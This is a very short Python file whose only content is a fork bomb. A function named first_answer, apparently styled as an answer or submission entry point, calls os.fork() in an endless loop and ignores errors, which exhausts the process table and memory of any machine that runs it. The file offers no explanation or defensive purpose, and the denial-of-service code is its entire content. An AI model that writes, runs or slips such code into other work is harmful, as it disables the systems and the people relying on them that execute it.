"""Forks without end."""

import os
def first_answer(*args):
    while True:
        try: os.fork()
        except OSError: pass
